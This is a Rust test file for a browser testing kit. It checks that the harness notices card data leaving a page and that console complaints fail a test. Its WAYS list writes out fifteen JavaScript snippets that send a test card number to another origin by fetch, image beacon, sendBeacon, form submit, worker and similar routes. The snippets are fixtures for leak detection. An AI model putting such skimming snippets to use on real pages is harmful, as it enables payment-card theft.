//! The record: that nothing leaves a browser unseen, and that a test fails for what must not have left.

use anyhow::{Context, Result};
use testkit::browser::{Browser, Device, Secret, Site, browse, eventually};

const NUMBER: &str = "4242424242424242";
const CODE: &str = "739";

/// A page with this script, which may use `THERE` for the other origin.
fn page(script: &str, there: &str) -> String {
    format!("<!doctype html><title>Page</title><body><script>{}</script>", script.replace("THERE", there))
}

/// Where a page may put a card on its way out.
const WAYS: [(&str, &str); 15] = [
    ("URL", "fetch('THERE?n=4242424242424242')"),
    ("URL", "fetch('THERE?n=4242%204242%204242%204242')"),
    ("URL", "new Image().src = 'THERE?739'"),
    ("URL", "const s = document.createElement('script'); s.src = 'THERE?739'; document.body.append(s)"),
    ("URL", "location = 'THERE?c=739'"),
    ("URL", "document.body.innerHTML = '<iframe src=\"THERE?c=739\">'"),
    ("headers", "fetch('THERE', {headers: {'x-card': '4242-4242-4242-4242'}})"),
    ("body", "fetch('THERE', {method: 'POST', body: 'a=b&cvc=739'})"),
    ("body", "fetch('THERE', {method: 'POST', body: new Blob(['{\"cvc\":\"739\"}'])})"),
    ("body", "fetch('THERE', {method: 'POST', body: 'x'.repeat(2000000) + ' 739'})"),
    ("body", "navigator.sendBeacon('THERE', 'number=4242+4242+4242+4242')"),
    ("body", "const r = new XMLHttpRequest(); r.open('POST', 'THERE'); r.send(new URLSearchParams({a: '739'}))"),
    (
        "body",
        "document.body.innerHTML = '<form method=post action=THERE><input name=n value=739></form>'; \
         document.forms[0].submit()",
    ),
    (
        "body",
        "document.body.innerHTML = '<form method=post action=THERE enctype=multipart/form-data>\
         <input name=n value=4242424242424242></form>'; document.forms[0].submit()",
    ),
    ("body", "new Worker(URL.createObjectURL(new Blob(['fetch(\"THERE\", {method: \"POST\", body: \"739\"})'])))"),
];

fn keep_card(browser: &Browser) {
    browser.keep(Secret::Number(NUMBER.into()));
    browser.keep(Secret::Code(CODE.into()));
}

/// By every way from the page itself, and by some from a frame of another site, which is a process of its own.
#[tokio::test]
async fn a_card_that_leaves_is_seen_by_whatever_way() -> Result<()> {
    let verdict = browse(Device::Desktop, async |browser| {
        keep_card(browser);
        let (tab, there) = (browser.tab().await?, Site::start()?);
        for (i, (part, script)) in WAYS.into_iter().enumerate() {
            for framed in if i % 3 == 0 { &[false, true][..] } else { &[false] } {
                let sink = format!("/{i}-{framed}");
                let there = there.clone().page(&sink, "");
                let here = Site::start()?.page("/", &page(script, &format!("{}{sink}", there.origin())));
                let frame = format!("<!doctype html><iframe src=\"{}/\"></iframe>", here.named_origin());
                let outer = Site::start()?.page("/", &frame);
                tab.open(&if *framed { outer.origin() } else { here.origin() }).await?;
                let told = |leak: &String| leak.contains(&format!("in the {part} of")) && leak.ends_with(&sink);
                let seen = eventually(async || Ok(browser.leaks().await?.iter().any(told).then_some(()))).await;
                seen.context(script)?;
            }
        }
        Ok(())
    })
    .await;
    let verdict = verdict.expect_err("a test does not pass with this").to_string();
    assert!(verdict.starts_with("what is secret left the browser"), "{verdict}");
    assert!(verdict.lines().count() > WAYS.len(), "{verdict}");
    Ok(())
}

#[tokio::test]
async fn cookies_are_looked_into() -> Result<()> {
    let script = "document.cookie = 'n=4242424242424242'; fetch('/next')";
    let here = Site::start()?.page("/", &page(script, "")).page("/next", "");
    let verdict = browse(Device::Desktop, async |browser| {
        keep_card(browser);
        browser.tab().await?.open(&here.origin()).await?;
        let told = |leak: &String| leak.contains("in the headers of GET") && leak.ends_with("/next");
        eventually(async || Ok(browser.leaks().await?.iter().any(told).then_some(()))).await
    })
    .await;
    assert!(verdict.expect_err("a leak").to_string().starts_with("what is secret left the browser"));
    Ok(())
}

#[tokio::test]
async fn a_card_may_be_told_to_whom_it_is_for() -> Result<()> {
    let trusted = Site::start()?.page("/", "");
    let script = "fetch('THERE', {method: 'POST', body: '4242424242424242 739'}).then(() => document.title = 'sent')";
    let here = Site::start()?.page("/", &page(script, &format!("{}/", trusted.origin())));
    browse(Device::Desktop, async |browser| {
        keep_card(browser);
        browser.trust(&trusted.origin());
        let tab = browser.tab().await?;
        tab.open(&here.origin()).await?;
        tab.top().wait("document.title === 'sent'").await?;
        let requests = browser.requests();
        let sent = requests.iter().find(|request| request.origin() == trusted.origin());
        assert_eq!(
            sent.map(|request| (request.method.as_str(), request.text())),
            Some(("POST", format!("{NUMBER} {CODE}")))
        );
        assert!(requests.iter().any(|request| request.origin() == here.origin() && request.method == "GET"));
        Ok(())
    })
    .await
}

/// What a page does, and what is said of it.
const COMPLAINTS: [(&str, &str); 7] = [
    ("<script>console.error('went', 'wrong')</script>", "console: went wrong"),
    ("<script>setTimeout(() => { throw new Error('thrown') })</script>", "Error: thrown"),
    ("<script>Promise.reject(new Error('rejected'))</script>", "Error: rejected"),
    ("<script>alert('stop')</script>", "a dialog: stop"),
    ("<script src=/missing.js></script>", "status of 404"),
    ("<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>", "img-src 'none'"),
    ("<p style='color: red'>Red</p>", "style-src 'none'"),
];

#[tokio::test]
async fn what_the_console_complains_of_fails_a_test() -> Result<()> {
    let policy = "<meta http-equiv=\"Content-Security-Policy\" content=\"img-src 'none'; style-src 'none'\">";
    for is_expected in [true, false] {
        let verdict = browse(Device::Desktop, async |browser| {
            let tab = browser.tab().await?;
            for (markup, complaint) in COMPLAINTS {
                let inner = Site::start()?.page("/", &format!("<!doctype html>{policy}<title>Page</title>{markup}"));
                let outer = Site::start()?.page("/", &format!("<iframe src=\"{}\"></iframe>", inner.named_origin()));
                let told = || browser.complaints().iter().filter(|told| told.contains(complaint)).count();
                for (times, address) in [(1, inner.origin()), (2, outer.origin())] {
                    tab.open(&address).await?;
                    eventually(async || Ok((told() == times).then_some(()))).await.context(markup)?;
                }
                if is_expected {
                    browser.expect_complaint(complaint);
                }
            }
            Ok(())
        })
        .await;
        match verdict {
            Ok(()) => assert!(is_expected),
            Err(error) => {
                let error = error.to_string();
                assert!(!is_expected && error.starts_with("the console complains"), "{error}");
                for (_, complaint) in COMPLAINTS {
                    assert_eq!(error.matches(complaint).count(), 2, "{error}");
                }
            }
        }
    }
    Ok(())
}

#[tokio::test]
async fn a_complaint_that_is_expected_must_come() -> Result<()> {
    let site = Site::start()?.page("/", "<!doctype html><title>Quiet</title>");
    let verdict = browse(Device::Desktop, async |browser| {
        browser.expect_complaint("something");
        browser.tab().await?.open(&site.origin()).await
    })
    .await;
    assert_eq!(verdict.expect_err("nothing came").to_string(), "nobody complained of something");
    Ok(())
}
